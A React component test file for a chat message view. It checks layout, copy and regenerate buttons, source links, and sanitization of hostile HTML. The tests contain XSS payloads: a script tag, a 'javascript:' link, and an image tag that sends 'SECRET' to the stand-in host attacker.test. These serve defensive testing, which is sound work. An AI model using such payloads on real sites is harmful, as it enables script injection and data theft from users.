// @vitest-environment jsdom
import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { ConversationMessage } from '@turtle/shared/conversation';
import { markdownRenderer } from '../../../components/markdown/markdown-message';
import { ChatMessageView } from './chat-message-view';
import { dangersIn, XSS_PAYLOADS } from './xss-fixtures';

const AT = new Date(2024, 4, 17, 9, 5).getTime();

function userMessage(extra: Partial<ConversationMessage> = {}): ConversationMessage {
  return { id: 'u1', role: 'user', content: 'Hello there', timestamp: AT, status: 'complete', ...extra };
}
function reply(extra: Partial<ConversationMessage> = {}): ConversationMessage {
  return { id: 'a1', role: 'assistant', content: 'A **bold** answer.', timestamp: AT, status: 'complete', ...extra };
}

function renderMessage(message: ConversationMessage, props: { onRegenerate?: () => void } = {}) {
  return render(
    <MemoryRouter>
      <ChatMessageView message={message} {...props} />
    </MemoryRouter>,
  ).container;
}

// Replies are drawn by the lazy markdown chunk; loaded here so they render as markdown at once.
beforeAll(async () => {
  await markdownRenderer.load();
});

let writeText: ReturnType<typeof vi.fn<(text: string) => Promise<void>>>;

beforeEach(() => {
  writeText = vi.fn<(text: string) => Promise<void>>().mockResolvedValue(undefined);
  Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
});
afterEach(() => {
  cleanup();
});

describe('a user message with hostile htmlContent (security.md 7d)', () => {
  it.each(XSS_PAYLOADS)('renders %s with no handler, no script-capable element and no unsafe address', (payload) => {
    const container = renderMessage(userMessage({ htmlContent: payload }));
    const bubble = container.querySelector('[data-role="user"]')!;
    expect(dangersIn(bubble)).toEqual([]);
    expect(bubble.querySelector('script, iframe, object, embed, form, svg, math, style')).toBeNull();
    for (const element of bubble.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        if (name === 'href') expect(value).not.toMatch(/^\s*(javascript|data):/i);
      }
    }
  });

  it('does not even try to load an outside image: no element refers to attacker.test (zero requests)', () => {
    const container = renderMessage(
      userMessage({ htmlContent: '<p>look <img src="https://attacker.test/p.png?d=SECRET" alt="a"></p>' }),
    );
    expect(container.innerHTML).not.toContain('attacker.test');
    expect(container.textContent).toContain('look');
  });
});

describe('ChatMessageView: the person’s message', () => {
  it('is a right-aligned grey bubble at most 80% wide, showing the sanitized HTML', () => {
    const container = renderMessage(
      userMessage({ htmlContent: '<p dir="ltr"><span>Hi </span><b><strong>there</strong></b></p>' }),
    );
    const row = container.querySelector('[data-role="user"]')!;
    expect(row.className).toContain('items-end');
    const bubble = row.querySelector('.max-w-\\[80\\%\\]')!;
    expect(bubble.className).toMatch(/bg-slate-100/);
    expect(bubble.className).toMatch(/rounded-3xl/);
    expect(bubble.querySelector('strong')?.textContent).toBe('there');
    expect(row.className).toContain('chat-message-in-user');
  });

  it('shows the plain text when there is no HTML, as text', () => {
    renderMessage(userMessage({ content: 'Is <b>this</b> bold?' }));
    expect(screen.getByText('Is <b>this</b> bold?')).toBeTruthy();
  });

  it('shows the plain text when the HTML sanitizes to nothing', () => {
    renderMessage(userMessage({ content: 'What I typed', htmlContent: '<script>alert(1)</script><iframe></iframe>' }));
    expect(screen.getByText('What I typed')).toBeTruthy();
  });

  it('has its hour and minute, hidden from sight', () => {
    const container = renderMessage(userMessage());
    const time = container.querySelector('time[data-message-time]')!;
    expect(time.textContent).toMatch(/^0?9:05/);
    expect(time.getAttribute('datetime')).toBe(new Date(AT).toISOString());
    expect(time.className).toContain('sr-only');
  });

  it('has no Copy or Regenerate button', () => {
    renderMessage(userMessage(), { onRegenerate: () => undefined });
    expect(screen.queryByRole('button')).toBeNull();
  });
});

describe('ChatMessageView: the assistant’s reply', () => {
  it('is full width, no bubble, rendered as markdown, with a hidden time', () => {
    const container = renderMessage(reply());
    const row = container.querySelector('[data-role="assistant"]')!;
    expect(row.className).toContain('w-full');
    expect(row.querySelector('strong')?.textContent).toBe('bold');
    expect(row.querySelector('time[data-message-time]')?.className).toContain('sr-only');
  });

  it('copies the whole reply (its markdown) with Copy', async () => {
    renderMessage(reply());
    const copy = screen.getByRole('button', { name: 'Copy reply' });
    expect(copy.textContent).toBe('Copy');
    await act(async () => {
      fireEvent.click(copy);
    });
    expect(writeText).toHaveBeenCalledWith('A **bold** answer.');
    expect(copy.textContent).toBe('Copied');
  });

  it('offers Regenerate only when asked to', () => {
    const onRegenerate = vi.fn();
    renderMessage(reply(), { onRegenerate });
    fireEvent.click(screen.getByRole('button', { name: 'Regenerate' }));
    expect(onRegenerate).toHaveBeenCalledTimes(1);
    cleanup();
    renderMessage(reply());
    expect(screen.queryByRole('button', { name: 'Regenerate' })).toBeNull();
  });

  it('marks a reply cut by Stop, and one cut by the length limit', () => {
    renderMessage(reply({ status: 'stopped', truncated: true }));
    expect(screen.getByText('Stopped')).toBeTruthy();
    expect(screen.getByText("The reply was cut short by the model's length limit.")).toBeTruthy();
    cleanup();
    renderMessage(reply());
    expect(screen.queryByText('Stopped')).toBeNull();
    expect(screen.queryByText(/cut short/)).toBeNull();
  });

  it('names the notes it used under "Sources", each a link to the note', () => {
    const container = renderMessage(
      reply({
        sources: [
          { id: 'n1', name: 'Index funds' },
          { id: 'n 2', name: 'Groceries' },
        ],
      }),
    );
    expect(container.textContent).toContain('Sources: Index funds');
    expect(screen.getByRole('link', { name: 'Index funds' }).getAttribute('href')).toBe('/note/n1');
    expect(screen.getByRole('link', { name: 'Groceries' }).getAttribute('href')).toBe('/note/n%202');
    // Each source has "Make cards" (docs/decisions/050-cards-from-a-source.md): a note named whole drafts from the note.
    expect(screen.getByRole('link', { name: 'Make cards from Index funds' }).getAttribute('href')).toBe(
      '/cards/drafts?from=note&id=n1',
    );
    expect(screen.getByRole('link', { name: 'Make cards from Groceries' }).getAttribute('href')).toBe(
      '/cards/drafts?from=note&id=n%202',
    );
    cleanup();
    renderMessage(reply({ sources: [] }));
    expect(screen.queryByText(/Sources/)).toBeNull();
  });

  it('offers "Make cards" from exactly a found passage: a note at its passage, a lesson at its moment', () => {
    renderMessage(
      reply({
        sources: [
          { id: 'n1', name: 'Index funds', citation: 1, position: 2 },
          { id: '3', name: 'Diversification', citation: 2, kind: 'lesson', startMs: 65_000 },
        ],
      }),
    );
    expect(screen.getByRole('link', { name: 'Make cards from Index funds' }).getAttribute('href')).toBe(
      '/cards/drafts?from=passage&of=note&id=n1&p=2',
    );
    expect(screen.getByRole('link', { name: 'Make cards from Diversification' }).getAttribute('href')).toBe(
      '/cards/drafts?from=passage&of=lesson&id=3&ms=65000',
    );
  });

  it('shows no buttons while the reply is still being written', () => {
    renderMessage(reply({ status: 'streaming' }), { onRegenerate: () => undefined });
    expect(screen.queryByRole('button')).toBeNull();
  });

  it('treats any role other than "user" as the assistant’s', () => {
    const container = renderMessage({ ...reply(), role: 'system' as never });
    expect(container.querySelector('[data-role="assistant"]')).not.toBeNull();
  });

  it('renders a javascript: link in a reply as text, not a link', () => {
    renderMessage(reply({ content: 'Click [here](javascript:alert(1))' }));
    expect(screen.queryByRole('link')).toBeNull();
    expect(screen.getByText('here')).toBeTruthy();
  });
});
